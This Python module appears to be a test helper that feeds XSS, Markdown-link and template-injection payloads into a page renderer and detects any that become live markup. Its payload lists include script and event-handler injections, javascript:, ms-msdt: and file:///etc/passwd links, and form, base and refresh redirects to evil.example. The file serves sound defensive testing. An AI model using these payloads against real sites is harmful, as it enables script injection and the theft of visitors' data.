"""What an enemy types, and the search for what of it became part of a page.

Every piece carries the mark `zqx`, in places where only mark-up can put it: the name of an element or an attribute.
"""

import html
from collections.abc import Iterator
from urllib.parse import urlsplit

import lxml.html
from lxml import etree

MARK = "zqx"
TAGS = (
    f"<script {MARK}>alert('{MARK}')</script>",
    f"</textarea></title></style></script><img src=x {MARK} onerror=alert(1)>",
    f'"><svg {MARK} onload=alert(1)><{MARK}-1>',
    f"' {MARK}=1 onfocus=alert(1) autofocus x='",
    f'" {MARK}=1 onmouseover="alert(1)',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img {MARK} src=1 onerror=alert(1)&gt;">',
    f'<noscript><p title="</noscript><img src=x {MARK} onerror=alert(1)>">',
    f"<form action=//evil.example/{MARK}><button {MARK}>",
    f"<base {MARK} href=//evil.example/><iframe {MARK} srcdoc=x><object {MARK} data=x>",
    f"<meta {MARK} http-equiv=refresh content=0;url=//evil.example><style {MARK}>*{{color:red}}</style>",
    f"--><{MARK}-2><!--",
    f"]]><{MARK}-3>",
    f"&lt;{MARK}-4&gt;&#60;{MARK}-5&#62;",
    f"\u2028<{MARK}-6>\u2029\ufeff<{MARK}-7>\u202e",
    "{{ 7919*7907 }}{% print 7919*7907 %}${7919*7907}#{7919*7907}<%= 7919*7907 %>%(x)s%s{0}",
)
"""Raw HTML, breaking out of an attribute and of an element, what changes its meaning when it is read twice, templates."""
LINKS = (
    f"[{MARK}](javascript:alert(1))", f"[{MARK}](JaVa&#115;cript:alert(1))", f"![{MARK}](javascript:alert(1))",
    f"[{MARK}](data:text/html;base64,PHNjcmlwdD4=)", f"[{MARK}](data:image/png;base64,{MARK})",
    f"[{MARK}](vbscript:x)", f"[{MARK}](file:///etc/passwd)", f"[{MARK}](ms-msdt:/id)", f"![{MARK}](search-ms:query)",
    f"[{MARK}](blob:{MARK})", f"<javascript:{MARK}>", f"<ms-word:{MARK}>", f"![{MARK}\" onerror=\"x](http://evil.example/{MARK}.png)",
    f"[{MARK}]( \x01javascript:alert(1))", f"[{MARK}](x \"{MARK}\" onclick=\"x\")", f"[a^1^](http://e.example/a^2^ \"{MARK}^3^><b>\")",
    f"![a^1^](x \"{MARK}^4^\")", f"[{MARK}]: javascript:alert(1)", f"`<{MARK}-8>`",
)  # fmt: skip
ALL = " ".join((*TAGS, *LINKS))
SHORT = f"\"'><{MARK}-9 onx=1><img src=x {MARK} onerror=a()>"
"""For fields that take few characters."""
LAW = f"""

### Article 71. {" ".join(TAGS)}

1. {" ".join(LINKS)}

1) {" ".join(TAGS)}

| {SHORT} | b |
|---|--:|
| c | {" ".join(LINKS)} |

```{SHORT}
{SHORT}
```

> {SHORT} {" ".join(LINKS)}

- {SHORT}

### Article 72. {" ".join(LINKS)}

{" ".join(TAGS)}
"""
"""A law whose headings, paragraphs, items, tables, code and quotes are all of it."""

FORBIDDEN = frozenset({"iframe", "object", "embed", "base", "style", "frame", "applet", "portal"})
ADDRESSES = frozenset({"href", "src", "action", "formaction", "data", "poster", "srcdoc", "ping", "background", "cite"})
KNOWN_SCHEMES = frozenset({"", "http", "https", "mailto"})
CALCULATED = str(7919 * 7907)


def planted(page: str) -> list[str]:
    """What stands in a page that we never put there: in short, where it is."""
    if not page.strip():
        return []
    document = lxml.html.document_fromstring(page.replace("\0", "\ufffd").encode("utf-8", "replace"), _parser())
    found = [f"calculated near {page[at - 60 : at + 20]!r}" for at in (page.find(CALCULATED),) if at >= 0]
    for element in document.iter(etree.Element):
        found += [f"<{element.tag}> {one}" for one in _wrong(element)]
    return found


def _parser() -> lxml.html.HTMLParser:
    return lxml.html.HTMLParser(encoding="utf-8", huge_tree=True)


def _wrong(element: lxml.html.HtmlElement) -> Iterator[str]:
    tag, given = str(element.tag).lower(), element.attrib
    if tag in FORBIDDEN or MARK in tag:
        yield "is forbidden"
    if tag == "script" and (not given.get("src", "").startswith("/assets/") or (element.text or "").strip()):
        yield "is a script"
    if tag == "meta" and given.get("http-equiv", "").lower() == "refresh" and "//" in given.get("content", ""):
        yield "leads away"
    for name, value in given.items():
        if MARK in name or name.startswith("on") or name == "style":
            yield f"{name}={value[:40]}"
        if name.rpartition(":")[2] in ADDRESSES and not _is_harmless(value):
            yield f"{name}={value[:60]}"
        if tag in ("form", "img", "script", "link", "button") and name in ADDRESSES and _host(value):
            yield f"{name} elsewhere: {value[:60]}"


def _is_harmless(address: str) -> bool:
    """As a browser reads it: without the characters that it leaves out of a scheme."""
    plain = "".join(one for one in html.unescape(address) if one > " ")
    try:
        return urlsplit(plain).scheme in KNOWN_SCHEMES
    except ValueError:
        return True


def _host(address: str) -> bool:
    return address.strip().replace("\\", "/").startswith(("//", "http://evil", "https://evil"))
